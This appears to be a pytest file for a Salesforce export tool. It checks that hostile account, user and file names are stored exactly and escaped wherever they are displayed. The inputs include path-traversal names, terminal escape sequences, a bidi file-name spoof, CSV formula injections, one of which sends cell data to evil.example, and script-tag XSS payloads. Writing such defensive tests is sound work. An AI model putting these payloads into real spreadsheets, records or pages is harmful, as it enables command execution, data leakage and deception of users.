"""Hostile data from the org (issue 19, "Hostile data" suite, fast part): path-like, absolute,
control-character, 250-character and non-Latin names in users, records and file titles; CSV
fields with quotes, CR/LF and formulas. Each is stored exactly (the backup's CSV round-trips
byte for byte, formulas verbatim) or made safe where it is shown (terminal: escaped; HTML:
escaped; file names: one safe path part inside the destination).

Zip members (slip, symlink, bomb) are tested with the weekly export's extraction."""

from __future__ import annotations

import csv
import html
import json
import os
from pathlib import Path
from typing import Any

from auth_support import invoke, password_env, password_profile, write_config
from report_support import compose_run
from users_support import org_rows

from sfexit.report import build_report
from sfexit_emulator import testing

ESC_TITLE = "\x1b]0;pwned\x07\x1b[2J"
HOSTILE = [
    "../../../../etc/passwd",
    "/etc/shadow",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    f"Eve{ESC_TITLE}\x08\x7f\x9b31m",
    "\u202egnp.exe",
    "\u2066isolated\u2069 \u200emarked\u200f",
    "x" * 250,
    "山田太郎 Иван Петров محمد العلي Ελένη ﷽",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'a "quoted", comma, and "" doubled',
    "line1\r\nline2\nline3\rend",
    "  leading and trailing  ",
    "tab\there;semi",
]
DANGEROUS = [chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0),
                              0x061C, 0x200E, 0x200F, 0x2028, 0x2029,
                              *range(0x202A, 0x202F), *range(0x2066, 0x206A)]]


def shown_safely(text: str) -> bool:
    """Nothing a terminal would act on: no control (but line feeds), no bidi character."""
    return not any(c in text for c in DANGEROUS)


def config(tmp_path: Path, org: Any) -> list[str]:
    return ["--config", str(write_config(tmp_path, org, **password_profile(org)))]


def files_outside(root: Path, top: Path) -> list[Path]:
    """Every file under ``top`` that is not under ``root`` (what an escape would create)."""
    return [Path(d, f) for d, _dirs, names in os.walk(top) for f in names
            if root.resolve() not in Path(d, f).resolve().parents]


def seed(org: Any) -> dict[str, str]:
    """Hostile Account names, user names and file titles in the org (as anyone with a login
    could set them). Returns Account Id → Name."""
    ids: dict[str, str] = {}
    with testing.writes(org) as batch:
        for name in HOSTILE:
            ids[batch.create("Account", {"Name": name})] = name
    users = org_rows(org, "SELECT Id FROM User WHERE IsActive = true ORDER BY Username")
    versions = org_rows(org, "SELECT Id FROM ContentVersion ORDER BY Id")
    attachments = org_rows(org, "SELECT Id FROM Attachment ORDER BY Id")
    with testing.writes(org) as batch:
        for row, name in zip(users[1:6], HOSTILE[:5], strict=True):
            batch.update("User", row["Id"], {"FirstName": name, "LastName": HOSTILE[7]})
        for row, name in zip(versions, HOSTILE, strict=False):
            batch.update("ContentVersion", row["Id"], {"Title": name})
        for row, name in zip(attachments, HOSTILE, strict=False):
            batch.update("Attachment", row["Id"], {"Name": name})
    return ids


def test_csv_fields_round_trip_byte_exact_through_the_export(fresh_emulator: Any,
                                                             tmp_path: Path) -> None:
    org = fresh_emulator
    accounts = seed(org)
    dest = tmp_path / "backup"
    run = invoke([*config(tmp_path, org), "export", "bulk", "--dest", str(dest), "--objects",
                  "Account", "--no-files"], env=password_env(org))
    assert run.code == 0, run.output
    path = dest / "data" / "Account.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        names = {r["Id"]: r["Name"] for r in csv.DictReader(fh)}
    for record_id, name in accounts.items():
        assert names[record_id] == name          # quotes, CR/LF, formulas: verbatim
    raw = path.read_bytes()
    assert b"\r\n" in raw and b'"=HYPERLINK(""http' in raw   # quoted, never prefixed with '
    verify = invoke([*config(tmp_path, org), "export", "verify", str(dest)],
                    env=password_env(org))
    assert verify.code == 0, verify.output


def test_hostile_file_titles_are_stored_inside_the_destination(fresh_emulator: Any,
                                                               tmp_path: Path) -> None:
    org = fresh_emulator
    seed(org)
    dest = tmp_path / "backup"
    run = invoke([*config(tmp_path, org), "export", "files", "--dest", str(dest)],
                 env=password_env(org))
    assert run.code == 0, run.output
    assert files_outside(dest, tmp_path) == [tmp_path / "config.toml"]
    manifest = json.loads((dest / "manifest.json").read_text(encoding="utf-8"))
    stored = [Path(f["path"]) for f in manifest["files"].values()]
    assert stored
    for relative in stored:
        assert not relative.is_absolute() and ".." not in relative.parts
        assert len(relative.parts) == 3 and shown_safely(relative.name)
        assert (dest / relative).is_file()


def test_terminal_output_of_hostile_names_is_neutralised(fresh_emulator: Any,
                                                         tmp_path: Path) -> None:
    org = fresh_emulator
    seed(org)
    cfg = config(tmp_path, org)
    from click.testing import CliRunner

    from sfexit.cli import cli

    for fmt in ("table", "csv"):
        shown = CliRunner().invoke(cli, [*cfg, "users", "list", "--format", fmt],
                                   env=password_env(org))
        assert shown.exit_code == 0, shown.output
        assert shown_safely(shown.stdout) and shown_safely(shown.stderr)
        assert "\\x1b]0;pwned\\x07\\x1b[2J" in shown.stdout and "\\u202egnp.exe" in shown.stdout
        assert HOSTILE[7] in shown.stdout                        # non-Latin shown as it is
    exact = invoke([*cfg, "users", "list"], env=password_env(org))
    names = {u["name"] for u in exact.body["result"]["users"]}
    assert f"{HOSTILE[3]} {HOSTILE[7]}" in names                 # --json: the exact value


def test_a_hostile_salesforce_message_reaches_the_terminal_escaped(fresh_emulator: Any,
                                                                  tmp_path: Path) -> None:
    from click.testing import CliRunner
    from sfexit.cli import cli

    org = fresh_emulator
    testing.add_validation_rule(org, "User", lambda row: not row.get("IsActive"),
                                f"Denied{ESC_TITLE}\u202e\r\nFAKE: ok")
    name = org_rows(org, "SELECT Username FROM User WHERE Username LIKE 'standard.user%'")[0][
        "Username"]
    run = CliRunner().invoke(cli, [*config(tmp_path, org), "--yes", "users", "deactivate", name,
                                   "--ignore-blockers"], env=password_env(org))
    assert run.exit_code == 5, run.output
    assert shown_safely(run.stdout) and shown_safely(run.stderr)
    assert "Denied\\x1b]0;pwned\\x07\\x1b[2J\\u202e\\r\\nFAKE: ok" in run.stderr


def test_the_html_report_escapes_everything_from_the_org(fresh_emulator: Any,
                                                         tmp_path: Path) -> None:
    org = fresh_emulator
    org_id = org_rows(org, "SELECT Id FROM Organization")[0]["Id"]
    evil = '<script>alert("org")</script><img src=x onerror=alert(1)>' + ESC_TITLE
    with testing.writes(org) as batch:
        batch.update("Organization", org_id, {"Name": evil})
    run = compose_run(org, tmp_path / "run")
    _json_path, html_path = build_report(run, lang="en")
    page = html_path.read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page
    assert html.escape(evil.split("\x1b")[0]) in page
